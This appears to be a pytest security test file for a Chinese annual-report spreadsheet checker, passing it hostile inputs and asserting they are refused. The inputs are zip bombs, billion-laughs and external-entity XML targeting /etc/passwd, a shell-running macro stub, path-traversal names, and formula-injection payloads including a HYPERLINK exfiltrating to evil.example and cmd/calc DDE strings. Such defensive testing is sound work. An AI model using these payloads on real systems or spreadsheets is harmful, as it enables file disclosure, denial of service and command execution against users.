"""Broken, edited and hostile inputs (issue 7): every file gets a clear Chinese answer naming it, a bad file never stops
the others, inputs stay byte-identical, nothing is written outside the output folder, no local file leaks, and the
time and memory a file may cost are bounded. The corpus is built here from valid returns."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import uuid
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from helpers import run_cli, write_return
from hostile_corpus import (BILLION_LAUGHS, Member, external_entity, members_of, read_member, repeated,
                            replaced, sheet_part, with_dtd, write_zip)
from nianbao.errors import UnreadableFile
from nianbao.formats import load_format
from nianbao.limits import LIMITS, Limits
from nianbao.review import review_file
from nianbao.xlsx_read import Book, read

FMT = load_format("2021")
CELL = FMT.cells["t3.new.natural_person"]  # one input cell, 表三!D5
GIB = 1 << 30


def tree_hash(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def no_traceback(r):
    assert "Traceback" not in r.stdout + r.stderr, r.stdout + r.stderr


@pytest.fixture(scope="module")
def valid(tmp_path_factory) -> tuple[Path, dict]:
    path = tmp_path_factory.mktemp("valid") / "valid.xlsx"
    return path, write_return(path, seed=7)


def edited(valid, target: Path, fn) -> Path:
    """A copy of the valid return, unprotected and edited with openpyxl the way a unit would in Excel."""
    wb = openpyxl.load_workbook(valid[0])
    for ws in wb.worksheets:
        ws.protection.sheet = False
    fn(wb)
    target.parent.mkdir(parents=True, exist_ok=True)
    wb.save(target)
    return target


# ------------------------------------------------------------------------------------------------ unreadable corpus
def _shared_strings_with(src: Path, dtd: bytes, ref: bytes) -> bytes:
    xml = read_member(src, "xl/sharedStrings.xml")
    xml = re.sub(rb"<t>[^<]*</t>", b"<t>" + ref + b"</t>", xml, count=1)
    return with_dtd(xml, dtd)


def build_unreadable(valid, folder: Path, secret: Path) -> dict[str, list[str]]:
    """{file name: words its message must contain}: files that are not (readable) returns."""
    src = valid[0]
    data = src.read_bytes()
    ms = members_of(src)
    t3 = sheet_part(src, CELL.sheet)
    cases: dict[str, list[str]] = {}

    def put(name, content, *words):
        (folder / name).write_bytes(content) if isinstance(content, bytes) else write_zip(folder / name, content)
        cases[name] = list(words)

    folder.mkdir(parents=True, exist_ok=True)
    # not a workbook
    put("空文件.xlsx", b"", "空")
    put("截断.xlsx", data[: len(data) // 2], "损坏")
    put("随机字节.xlsx", bytes(zlib.crc32(i.to_bytes(2, "big")) & 0xFF for i in range(4096)), "不是 Excel 工作簿")
    put("表格.xlsx", "单位,数量\n教育局,3\n".encode("utf-8"), "不是 Excel 工作簿")
    (folder / "文件夹.xlsx").mkdir()
    (folder / "文件夹.xlsx" / "里面.txt").write_text("x")
    cases["文件夹.xlsx"] = ["文件夹"]
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    put("其实是Word.xlsx", docx.getvalue(), "xl/workbook.xml")
    other = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["姓名", "电话"])
    book.save(other)
    put("通讯录.xlsx", other.getvalue(), "不是年度报告填报表")
    # encrypted with a password (Agile encryption, as Excel does)
    from msoffcrypto.format.ooxml import OOXMLFile

    enc = io.BytesIO()
    with open(src, "rb") as f:
        OOXMLFile(f).encrypt("密码123", enc)
    put("加密.xlsx", enc.getvalue(), "加密", "清除密码", "另存")
    # zip bomb: a 1 GiB sheet that deflates to ~2 MB (never held in memory, here or by the reader)
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet><sheetData>'
    row = b'<row r="9"><c r="A9" t="inlineStr"><is><t>' + b"0" * 65000 + b"</t></is></c></row>"
    bomb = repeated(t3, head, row, GIB, b"</sheetData></worksheet>")
    assert bomb.size >= GIB - len(row) and len(bomb.deflated) < 4 << 20
    put("压缩炸弹.xlsx", replaced(ms, t3, bomb), "压缩炸弹")
    # the same sheet with headers that claim it is 60 bytes (CRC of those 60 bytes): it must cost no more
    put("谎报大小.xlsx", replaced(ms, t3, Member(t3, bomb.deflated, zlib.crc32(head), len(head))), "损坏")
    # entity expansion and external entities, in the shared strings and in a sheet
    put("十亿笑.xlsx", replaced(ms, "xl/sharedStrings.xml",
                                _shared_strings_with(src, BILLION_LAUGHS, b"&lol9;")), "DTD")
    sheet = with_dtd(read_member(src, t3), BILLION_LAUGHS.replace(b"sst", b"worksheet"))
    put("十亿笑-表三.xlsx", replaced(ms, t3, sheet.replace(b"<v>", b"<v>&lol9;", 1)), "DTD")
    for i, target in enumerate((str(secret), "/etc/passwd")):
        put(f"外部实体{i}.xlsx", replaced(ms, "xl/sharedStrings.xml",
                                       _shared_strings_with(src, external_entity(target, "sst"), b"&xxe;")), "DTD")
    # a DTD far down the part (after a long comment), in UTF-16, in lower case, in a part of any name
    xml = read_member(src, "xl/sharedStrings.xml")
    end = xml.index(b"?>") + 2
    late = xml[:end] + b"<!--" + b" " * 20000 + b"-->" + external_entity(str(secret), "sst") + xml[end:]
    put("DTD在深处.xlsx", replaced(ms, "xl/sharedStrings.xml", late), "DTD")
    utf16 = with_dtd(xml.replace(b'encoding="UTF-8"', b'encoding="UTF-16"'), BILLION_LAUGHS)
    put("DTD-UTF16.xlsx", replaced(ms, "xl/sharedStrings.xml", b"\xff\xfe" + utf16.decode().encode("utf-16-le")),
        "DTD")
    lower = with_dtd(xml, BILLION_LAUGHS.replace(b"DOCTYPE", b"doctype"))
    put("DTD小写.xlsx", replaced(ms, "xl/sharedStrings.xml", lower), "DTD")
    return cases


@pytest.fixture(scope="module")
def corpus(valid, tmp_path_factory):
    base = tmp_path_factory.mktemp("corpus")
    secret = base / "secret.txt"
    token = f"SECRET-{uuid.uuid4().hex}"
    secret.write_text(token + "\n")
    folder = base / "inbox"
    cases = build_unreadable(valid, folder, secret)
    shutil.copy(valid[0], folder / "好的.xlsx")
    return dict(folder=folder, cases=cases, token=token, secret=secret)


@pytest.fixture(scope="module")
def corpus_run(corpus):
    before = tree_hash(corpus["folder"])
    t = time.monotonic()
    human = run_cli("check", corpus["folder"])
    as_json = run_cli("check", corpus["folder"], "--json")
    return dict(human=human, json=as_json, seconds=time.monotonic() - t, before=before,
                after=tree_hash(corpus["folder"]))


def test_every_unreadable_file_is_named_with_its_problem_and_the_good_one_still_passes(corpus, corpus_run):
    r = corpus_run["human"]
    no_traceback(r)
    assert r.returncode == 2
    lines = r.stdout.splitlines()
    for name, words in corpus["cases"].items():
        line = next((ln for ln in lines if ln.startswith(f"✗ {name}：无法读取")), None)
        assert line is not None, f"{name} not reported:\n{r.stdout}"
        for w in words:
            assert w in line, (name, w, line)
    assert any(ln.startswith("✓ 好的.xlsx：") for ln in lines)
    assert f"无法读取 {len(corpus['cases'])}。" in r.stdout
    data = json.loads(corpus_run["json"].stdout)
    assert corpus_run["json"].returncode == 2
    assert {Path(d["file"]).name for d in data if d.get("error")} == set(corpus["cases"])
    assert corpus_run["seconds"] < 60  # two runs over a 1 GiB bomb and its lying twin


def test_inputs_are_byte_identical_afterwards(corpus_run):
    assert corpus_run["after"] == corpus_run["before"]


def test_no_local_file_leaks(corpus, corpus_run):
    passwd = [ln for ln in Path("/etc/passwd").read_text().splitlines() if ln.strip()]
    for r in (corpus_run["human"], corpus_run["json"]):
        out = r.stdout + r.stderr
        assert corpus["token"] not in out
        assert not any(ln in out for ln in passwd)


# The CLI run in a child that prints its own peak memory. VmHWM belongs to the process image after exec; ru_maxrss
# would also count the parent's pages at fork (Linux keeps the old image's high-water mark across exec), which is the
# whole test session's memory by the time this test runs.
PEAK_MEMORY_CLI = ("import re, resource, sys\nfrom nianbao.cli import main\n"
                   "def peak():\n"
                   "    try:\n"
                   "        return int(re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1))\n"
                   "    except OSError:\n"
                   "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
                   "try:\n    main(sys.argv[1:])\nfinally:\n"
                   "    print('MAXRSS', peak(), file=sys.stderr)\n")


@pytest.mark.parametrize("name", ["压缩炸弹.xlsx", "谎报大小.xlsx", "十亿笑.xlsx"])
def test_hostile_file_costs_bounded_time_and_memory(corpus, name):
    """Memory of the whole CLI process, reading one hostile file (a 1 GiB member, or one that lies about its size)."""
    code = PEAK_MEMORY_CLI
    t = time.monotonic()
    r = subprocess.run([sys.executable, "-c", code, "check", str(corpus["folder"] / name)], capture_output=True,
                       text=True, timeout=120)
    seconds = time.monotonic() - t
    no_traceback(r)
    assert r.returncode == 2 and name in r.stdout
    kib = int(re.search(r"MAXRSS (\d+)", r.stderr).group(1))
    assert kib < 400 * 1024, f"{kib // 1024} MB"
    assert seconds < 20


def test_lying_header_in_a_part_calamine_skips_cannot_blow_up_the_annotated_copy(valid, tmp_path):
    """The theme claims 9 bytes and inflates to 1 GiB: the return still reads (the theme is not data), and its
    annotated copy is made from the bounded members, not by openpyxl through the file's own headers."""
    bad = tmp_path / "bad.xlsx"
    values = dict(valid[1], **{CELL.key: -1})
    write_return(bad, values=values, seed=7)
    big = repeated("xl/theme/theme1.xml", b"<a:theme>", b"<!-- " + b"x" * 65000 + b" -->", GIB, b"</a:theme>")
    ms = replaced(members_of(bad), big.name, Member(big.name, big.deflated, zlib.crc32(b"<a:theme>"), 9))
    write_zip(bad, ms)
    code = PEAK_MEMORY_CLI
    r = subprocess.run([sys.executable, "-c", code, "check", str(bad), "--annotate", str(tmp_path / "out")],
                       capture_output=True, text=True, timeout=120)
    no_traceback(r)
    assert r.returncode == 1 and "批注副本" in r.stdout
    assert int(re.search(r"MAXRSS (\d+)", r.stderr).group(1)) < 400 * 1024
    assert (tmp_path / "out" / "bad-批注.xlsx").is_file()


def test_a_dtd_in_a_part_no_reader_needs_is_never_inflated_and_the_full_copy_refuses_it(valid, tmp_path):
    """Checking reads only the parts that hold values; the annotated copy carries every part, so it checks them all."""
    bad = tmp_path / "bad.xlsx"
    values = dict(valid[1], **{CELL.key: -1})
    write_return(bad, values=values, seed=7)
    write_zip(bad, replaced(members_of(bad), "xl/media/image9.bin",
                            b"\x00" * 100 + external_entity("/etc/passwd", "x")))
    assert read(bad).raw[CELL.key] == -1  # read and checked like any return
    with pytest.raises(UnreadableFile, match="DTD"):
        Book(bad).complete()
    r = run_cli("check", bad, "--annotate", tmp_path / "out")
    no_traceback(r)
    assert r.returncode == 1 and "DTD" in r.stdout + r.stderr
    assert not (tmp_path / "out" / "bad-批注.xlsx").exists()


# ------------------------------------------------------------------------------------------------ the reader's guards
def test_defusedxml_parses_every_xml_part_the_reader_parses_itself(valid, monkeypatch):
    import xml.dom.minidom
    import xml.etree.ElementTree as ET
    import xml.sax

    from defusedxml import ElementTree as SafeET

    expected = read(valid[0]).raw

    def forbidden(*a, **k):
        raise AssertionError("an XML part was parsed without defusedxml")

    for mod, names in ((ET, ("fromstring", "XML", "parse", "iterparse", "XMLParser", "XMLPullParser")),
                       (xml.dom.minidom, ("parse", "parseString")), (xml.sax, ("parse", "parseString"))):
        for n in names:
            monkeypatch.setattr(mod, n, forbidden)
    calls = []
    real = SafeET.fromstring

    def spy(data, *a, **k):
        calls.append(k)
        return real(data, *a, **k)

    monkeypatch.setattr(SafeET, "fromstring", spy)
    import nianbao.xlsx_read

    monkeypatch.setattr(nianbao.xlsx_read, "_STRUCTURES", {})  # parsed once per process: make this the first time
    assert read(valid[0]).raw == expected
    assert len(calls) >= 2  # workbook.xml, its relationships
    assert read(valid[0]).raw == expected and len(calls) == 2  # the same two parts again: known already
    from nianbao.xlsx_read import Book

    assert Book(valid[0]).custom["nianbao_unit"]  # the custom properties, read when asked for
    assert len(calls) == 3  # and the custom properties
    assert all(k.get("forbid_dtd") and k.get("forbid_entities") and k.get("forbid_external") for k in calls)


@pytest.mark.parametrize("name", ["十亿笑.xlsx", "十亿笑-表三.xlsx", "外部实体0.xlsx", "DTD在深处.xlsx",
                                  "DTD-UTF16.xlsx", "DTD小写.xlsx"])
def test_a_dtd_anywhere_is_refused_before_calamine_sees_the_file(corpus, name, monkeypatch):
    def calamine_reached(self):
        raise AssertionError("calamine was given a part with a DTD")

    monkeypatch.setattr(Book, "_open_calamine", calamine_reached)
    with pytest.raises(UnreadableFile) as e:
        Book(corpus["folder"] / name)
    assert "DTD" in e.value.message


def test_limits_are_applied_per_file(valid, tmp_path):
    with pytest.raises(UnreadableFile, match="部件.*超过上限 5"):
        read(valid[0], Limits(max_members=5))
    with pytest.raises(UnreadableFile, match="超过上限 0 MB"):
        read(valid[0], Limits(max_unzipped_mb=0))
    with pytest.raises(UnreadableFile, match="文件太大"):
        read(valid[0], Limits(max_file_mb=0))
    assert read(valid[0], Limits(max_members=30, max_unzipped_mb=5, max_file_mb=1)).raw == read(valid[0]).raw


def test_limits_come_from_the_environment_and_the_readme_tells_them_true(valid, tmp_path):
    env = dict(os.environ, NIANBAO_MAX_MEMBERS="5")
    r = run_cli("check", valid[0], env=env)
    no_traceback(r)
    assert r.returncode == 2 and "valid.xlsx" in r.stdout and "超过上限 5" in r.stdout
    for i in range(4):
        shutil.copy(valid[0], tmp_path / f"{i}.xlsx")
    r = run_cli("check", tmp_path, env=dict(os.environ, NIANBAO_MAX_FILES="3"))
    no_traceback(r)
    assert r.returncode == 2 and "超过 3 个" in r.stderr and "NIANBAO_MAX_FILES" in r.stderr
    # README's 读取限制 table: every limit, its variable and its default
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    table = readme.split("## 读取限制", 1)[1].split("##", 1)[0]
    rows = {m.group(2): m.group(1) for m in re.finditer(r"^\|[^|]+\|\s*([\d,]+)[^|]*\|\s*`(NIANBAO_\w+)`", table, re.M)}
    source = (Path(__file__).resolve().parents[1] / "src/nianbao/limits.py").read_text(encoding="utf-8")
    declared = dict(re.findall(r'_env\("(NIANBAO_\w+)", ([\d_]+)\)', source))
    assert declared and rows.keys() == declared.keys()
    for var, default in declared.items():
        assert int(rows[var].replace(",", "")) == int(default.replace("_", "")), var
    assert LIMITS.max_members == int(declared["NIANBAO_MAX_MEMBERS"])


# ------------------------------------------------------------------------------------------------ other containers
@pytest.fixture(scope="module")
def converted(valid, soffice, tmp_path_factory):
    """The valid return saved by LibreOffice as .xls (BIFF8) and .ods."""
    out = tmp_path_factory.mktemp("converted")
    profile = tmp_path_factory.mktemp("lo-profile")
    for fmt in ("xls", "ods"):
        subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", fmt,
                        "--outdir", str(out), str(valid[0])], capture_output=True, timeout=180, check=True)
    return out


@pytest.mark.libreoffice
@pytest.mark.parametrize("suffix", ["xls", "ods"])
def test_xls_and_ods_are_read(converted, valid, suffix):
    path = converted / f"valid.{suffix}"
    assert path.read_bytes()[:4] == (b"\xd0\xcf\x11\xe0" if suffix == "xls" else b"PK\x03\x04")
    filing = read(path)
    assert filing.container == suffix
    assert filing.values == {k: v for k, v in valid[1].items()}
    assert review_file(path)["unit"] == "测试区教育局"


@pytest.mark.libreoffice
def test_xls_with_a_password_to_open_says_so_and_how_to_save_it(converted, tmp_path):
    """An .xls whose globals carry a FILEPASS record (what a password to open writes), made from LibreOffice's .xls
    by turning a record of the same length into one: the OLE stream keeps its size."""
    import struct

    import olefile

    path = tmp_path / "加密.xls"
    shutil.copy(converted / "valid.xls", path)
    with olefile.OleFileIO(str(path), write_mode=True) as ole:
        stream = bytearray(ole.openstream("Workbook").read())
        pos = 0
        while pos < len(stream):
            rid, size = struct.unpack_from("<HH", stream, pos)
            if rid == 0x005C:  # WRITEACCESS becomes FILEPASS (RC4)
                stream[pos:pos + 6] = struct.pack("<HHH", 0x002F, size, 1)
                break
            pos += 4 + size
        else:
            pytest.fail("no WRITEACCESS record in LibreOffice's .xls")
        ole.write_stream("Workbook", bytes(stream))
    r = run_cli("check", path)
    no_traceback(r)
    assert r.returncode == 2
    line = next(ln for ln in r.stdout.splitlines() if ln.startswith("✗ 加密.xls：无法读取"))
    assert "密码" in line and "另存为" in line


def test_xlsm_with_macros_is_read_never_run_and_its_annotated_copy_carries_no_macro(valid, tmp_path):
    marker = tmp_path / "macro-ran"
    src = tmp_path / "src.xlsx"
    write_return(src, values=dict(valid[1], **{CELL.key: -5}), seed=7)
    ms = members_of(src)
    types = read_member(src, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = read_member(src, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                             b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f'Sub Workbook_Open()\nShell "touch {marker}"\nEnd Sub\n'.encode()
    ms = replaced(replaced(replaced(ms, "[Content_Types].xml", types), "xl/_rels/workbook.xml.rels", rels),
                  "xl/vbaProject.bin", vba)
    xlsm = write_zip(tmp_path / "宏.xlsm", ms)
    before = tree_hash(tmp_path)
    r = run_cli("check", xlsm, "--json", "--annotate", tmp_path / "out")
    no_traceback(r)
    assert r.returncode == 1
    result = json.loads(r.stdout)[0]
    assert result["unit"] == "测试区教育局" and any(CELL.sheet + "!" + CELL.ref in f["cells"] for f in result["findings"])
    assert read(xlsm).raw[CELL.key] == -5
    assert not marker.exists()
    assert {k: v for k, v in tree_hash(tmp_path).items() if not k.startswith("out/")} == before
    copy = Path(result["annotated"])
    with zipfile.ZipFile(copy) as z:
        assert not any("vba" in n.lower() for n in z.namelist())


# ------------------------------------------------------------------------------------------------ edited structure
def _insert_row(wb):
    wb[CELL.sheet].insert_rows(6)


def _delete_row(wb):
    wb[CELL.sheet].delete_rows(7)


def _move_rows(wb):
    wb[CELL.sheet].move_range("A5:J6", rows=30)


def _edit_label(wb):
    wb[CELL.sheet]["A5"] = "本年新收申请（改）"


def _rename_sheet(wb):
    wb[CELL.sheet].title = "Sheet3"


def _delete_sheet(wb):
    del wb[FMT.tables["t4"].sheet]


def _split_merged(wb):
    for ws in wb.worksheets:
        for rng in list(ws.merged_cells.ranges):
            ws.unmerge_cells(str(rng))


def _formulas_to_numbers(wb):
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    c.value = 0
                    n += 1
    assert n > 10


STRUCTURE = {  # edit -> (passes?, words in an S02 finding)
    "插入行": (_insert_row, False, ["表三!A6", "表三!A7"]),
    "删除行": (_delete_row, False, ["表三!A7"]),
    "移动行": (_move_rows, False, ["表三!A5", "表三!A35"]),
    "改标签": (_edit_label, False, ["表三!A5", "本年新收申请（改）"]),
    "改表名": (_rename_sheet, False, ["Sheet3"]),
    "删除表": (_delete_sheet, False, [FMT.tables["t4"].sheet]),
    "拆分合并单元格": (_split_merged, True, []),
    "公式改为数字": (_formulas_to_numbers, True, []),
}


@pytest.mark.parametrize("name", list(STRUCTURE))
def test_edited_structure(valid, tmp_path, name):
    fn, passes, words = STRUCTURE[name]
    path = edited(valid, tmp_path / f"{name}.xlsx", fn)
    r = review_file(path)
    assert "error" not in r
    s02 = [f["message"] for f in r["findings"] if f["rule"] == "S02"]
    assert r["ok"] is passes, r["findings"][:3]
    if passes:
        assert read(path).values == valid[1]  # nothing lost to the edit
    else:
        assert s02 and all(any(w in m for m in s02) for w in words), s02[:4]
    if name == "改表名":  # a renamed sheet is still read
        assert read(path).values == valid[1]


# ------------------------------------------------------------------------------------------------ edited values
VALUES = {  # typed into 表三!D5 -> (severity of the C01 finding, what its message quotes)
    "负数": (-3, "error", "-3"),
    "小数": (2.5, "error", "2.5"),
    "无": ("无", "error", "无"),
    "斜杠": ("/", "error", "/"),
    "全角": ("１２", "warning", "12"),
    "千分位": ("1,234", "warning", "1234"),
    "带空格": (" 1 2 ", "warning", "12"),
    "十的二十次方": (10 ** 20, "error", "1e+20"),
    "除以零": ("=1/0", "error", "=1/0"),
    "外部链接": ("='[他局.xlsx]表三'!D6", "error", "='[他局.xlsx]表三'!D6"),
}


@pytest.mark.parametrize("name", list(VALUES))
def test_edited_values(valid, tmp_path, name):
    value, severity, quoted = VALUES[name]
    path = edited(valid, tmp_path / f"{name}.xlsx", lambda wb: wb[CELL.sheet].__setitem__(CELL.ref, value))
    r = review_file(path)
    place = f"{CELL.sheet}!{CELL.ref}"
    c01 = [f for f in r["findings"] if f["rule"] == "C01" and place in f["cells"]]
    assert len(c01) == 1 and c01[0]["severity"] == severity and quoted in c01[0]["message"], c01
    assert r["ok"] is False  # an error, or a lenient reading whose number breaks a sum


@pytest.fixture(scope="module")
def edited_folder(valid, tmp_path_factory):
    folder = tmp_path_factory.mktemp("edited")
    for name, (fn, passes, _) in STRUCTURE.items():
        if not passes:
            edited(valid, folder / f"结构-{name}.xlsx", fn)
    for name, (value, _, _) in VALUES.items():
        edited(valid, folder / f"数值-{name}.xlsx", lambda wb, v=value: wb[CELL.sheet].__setitem__(CELL.ref, v))
    return folder


def test_edited_files_exit_1_each_named_inputs_untouched(edited_folder, tmp_path):
    before = tree_hash(edited_folder)
    r = run_cli("check", edited_folder, "--annotate", tmp_path / "批注")
    no_traceback(r)
    assert r.returncode == 1
    for p in edited_folder.iterdir():
        assert f"✗ {p.name}：" in r.stdout
        assert (tmp_path / "批注" / f"{p.stem}-批注.xlsx").is_file()
    assert tree_hash(edited_folder) == before


# ------------------------------------------------------------------------------------------------ many files
def test_ten_thousand_files_in_a_folder(valid, tmp_path):
    folder = tmp_path / "很多"
    for i in range(10_000):
        sub = folder / f"{i // 1000:02d}"
        sub.mkdir(parents=True, exist_ok=True)
        (sub / f"{i:05d}.xlsx").write_bytes(b"" if i % 2 else b"not a workbook %d" % i)
    shutil.copy(valid[0], folder / "03" / "03500-好的.xlsx")
    t = time.monotonic()
    r = run_cli("check", folder)
    assert time.monotonic() - t < 60
    no_traceback(r)
    assert r.returncode == 2
    assert "共 10001 个文件：通过 1，未通过 0，无法读取 10000。" in r.stdout
    assert "✗ 09999.xlsx：无法读取 — 文件是空的" in r.stdout and "✓ 03500-好的.xlsx" in r.stdout


# ------------------------------------------------------------------------------------------------ output folder
def test_full_disk_leaves_no_partial_file_and_says_so(valid, tmp_path, monkeypatch):
    """ENOSPC halfway through a write: a Chinese message naming the file, and nothing half-written remains."""
    import errno

    from nianbao.cli import main

    bad = tmp_path / "in" / "bad.xlsx"
    write_return(bad, values=dict(valid[1], **{CELL.key: -1}), seed=7)
    out = tmp_path / "out"
    real = Path.write_bytes

    def full(self, data):
        with open(self, "wb") as f:
            f.write(data[: len(data) // 2])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full)
    r = CliRunner().invoke(main, ["check", str(bad), "--annotate", str(out)])
    monkeypatch.setattr(Path, "write_bytes", real)
    assert r.exit_code == 2, r.output
    assert "bad-批注.xlsx" in r.output and "磁盘空间不足" in r.output
    assert list(out.iterdir()) == []


def _unshare_ok() -> bool:
    """Whether a private mount namespace with a tmpfs can be made here (unprivileged user namespaces, or root)."""
    if not shutil.which("unshare"):
        return False
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        return subprocess.run(["unshare", "-rm", "sh", "-c", 'mount -t tmpfs -o size=64k tmpfs "$0"', d],
                              capture_output=True).returncode == 0


def _in_small_fs(out: Path, options: str, *args) -> subprocess.CompletedProcess:
    """Runs the CLI with a tmpfs mounted on `out` (in a private mount namespace: nothing outside sees it), then
    lists what it left there."""
    out.mkdir(parents=True, exist_ok=True)
    script = ('mount -t tmpfs -o "$1" tmpfs "$2" || exit 99; out="$2"; shift 2; "$@"; echo "RC=$?"; '
              'echo "LEFT:"; find "$out" -type f')
    return subprocess.run(["unshare", "-rm", "sh", "-c", script, "sh", options, str(out), sys.executable, "-m",
                           "nianbao", *map(str, args)], capture_output=True, text=True, timeout=300)


@pytest.mark.skipif(not _unshare_ok(), reason="cannot mount a private tmpfs here (unshare -rm)")
@pytest.mark.parametrize("options, words", [("size=24k", "磁盘空间不足"), ("ro,size=1m", "只读文件系统")])
def test_full_or_read_only_output_folder_on_a_real_filesystem(valid, tmp_path, options, words):
    inbox = tmp_path / "in"
    for i in range(3):
        write_return(inbox / f"bad{i}.xlsx", values=dict(valid[1], **{CELL.key: -1 - i}), seed=7)
    before = tree_hash(inbox)
    r = _in_small_fs(tmp_path / "out", options, "check", inbox, "--annotate", tmp_path / "out")
    no_traceback(r)
    assert "RC=2" in r.stdout, r.stdout + r.stderr
    assert words in r.stderr and "无法写入" in r.stderr
    left = r.stdout.split("LEFT:", 1)[1].split()
    assert not any(p.endswith(".tmp") for p in left), left
    for p in left:  # whatever was written is complete
        assert openpyxl.load_workbook(p).sheetnames[0] == "校验问题"
    assert tree_hash(inbox) == before


# ------------------------------------------------------------------------------------------------ collect
def _roster_units():
    return [("../../etc/x", "../../etc/x", "部门"),
            ("=1+2", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "部门"),
            ("+A1", "+cmd|' /C calc'!A0", "部门"),
            ("-A2", "-2+3", "部门"),
            ("@A3", "@SUM(1+1)*cmd|' /C calc'!A0", "部门"),
            ("/tmp/nianbao-escape", "../../../../../../tmp/nianbao-escape-" + uuid.uuid4().hex, "区政府本级")]


@pytest.fixture(scope="module")
def hostile_collect(valid, corpus, tmp_path_factory):
    from nianbao.cli import main

    base = tmp_path_factory.mktemp("collect")
    units = _roster_units()
    roster = base / "名单.csv"
    with open(roster, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([["单位代码", "单位名称", "单位类型"], *units])
    key_file = base / "office.key"
    r = CliRunner().invoke(main, ["template", "--roster", str(roster), "--year", "2025", "-o", str(base / "模板"),
                                  "--key-file", str(key_file)])
    assert r.exit_code == 0, r.output
    returns = base / "返回表"
    returns.mkdir()
    templates = sorted((base / "模板").glob("*.xlsx"))
    assert len(templates) == len(units)
    for i, t in enumerate(templates):
        wb = openpyxl.load_workbook(t)
        values = dict(valid[1], **{k: 0 for k in FMT.cells if k.startswith("t2.regulations.")})
        if i % 2:
            values[CELL.key] = -1  # sent back: an annotated copy named after the unit
        for k, v in values.items():
            c = FMT.cells[k]
            wb[c.sheet][c.ref] = v
        wb.save(returns / t.name)
    # broken and hostile files in the same inbox
    for name in ("空文件.xlsx", "压缩炸弹.xlsx", "外部实体0.xlsx", "外部实体1.xlsx", "十亿笑.xlsx", "加密.xlsx"):
        shutil.copy(corpus["folder"] / name, returns / name)
    (returns / "=cmd.xlsx").write_bytes(b"=1+1")
    work = base / "工作"
    work.mkdir()
    before_all = {p for p in base.rglob("*")}
    before = tree_hash(returns)
    r = run_cli("collect", returns, "--roster", roster, "--year", 2025, "-o", work / "输出", "--key-file", key_file)
    created = {p for p in base.rglob("*")} - before_all
    return dict(base=base, units=units, result=r, out=work / "输出", created=created, before=before,
                after=tree_hash(returns), token=corpus["token"])


def test_collect_survives_hostile_inbox_and_roster(hostile_collect):
    r = hostile_collect["result"]
    no_traceback(r)
    assert r.returncode == 1, r.stdout + r.stderr  # three units failed; the broken files are listed, not fatal
    for name in ("空文件.xlsx", "压缩炸弹.xlsx", "外部实体0.xlsx", "十亿笑.xlsx", "加密.xlsx", "=cmd.xlsx"):
        assert f"无法使用：{name} — " in r.stdout
    assert "通过 3，" in r.stdout and "未通过 3，" in r.stdout
    assert hostile_collect["after"] == hostile_collect["before"]


def test_nothing_escapes_the_output_folder(hostile_collect):
    out = hostile_collect["out"].resolve()
    assert hostile_collect["created"], "nothing was written"
    for p in hostile_collect["created"]:
        assert p.resolve() == out or out in p.resolve().parents, p
    assert not list(Path("/tmp").glob("nianbao-escape-*"))


def test_register_and_summary_neutralise_formula_injection(hostile_collect):
    out = hostile_collect["out"]
    names = {n for _, n, _ in hostile_collect["units"]} | {c for c, _, _ in hostile_collect["units"]}
    with open(out / "登记表.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    for n in names:
        if n[0] in "=+-@":
            assert "'" + n in cells, n
    payload = re.compile(r"cmd|HYPERLINK|calc|1\+2|2\+3|etc", re.I)
    for book in [out / "登记表.xlsx", out / "汇总.xlsx", *(out / "退回").glob("*.xlsx")]:
        wb = openpyxl.load_workbook(book)
        texts = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        assert not payload.search(str(c.value)), (book.name, ws.title, c.coordinate, c.value)
                    elif isinstance(c.value, str):
                        texts.append(c.value)
        if book.name == "登记表.xlsx":
            assert all(any(n in t for t in texts) for n in names)  # the names are there, as text


def test_collect_outputs_do_not_leak_local_files(hostile_collect):
    passwd = [ln for ln in Path("/etc/passwd").read_text().splitlines() if len(ln) > 8]
    r = hostile_collect["result"]
    blobs = [r.stdout.encode(), r.stderr.encode()]
    for p in hostile_collect["out"].rglob("*"):
        if p.is_file():
            data = p.read_bytes()
            blobs.append(data)
            if p.suffix in (".xlsx", ".docx"):
                with zipfile.ZipFile(p) as z:
                    blobs += [z.read(n) for n in z.namelist()]
    for b in blobs:
        assert hostile_collect["token"].encode() not in b
        assert not any(ln.encode() in b for ln in passwd)


# ------------------------------------------------------------------------------------------------ import
def _docx_bomb(path: Path, source: Path):
    """A Word report whose document part is a 1 GiB bomb."""
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
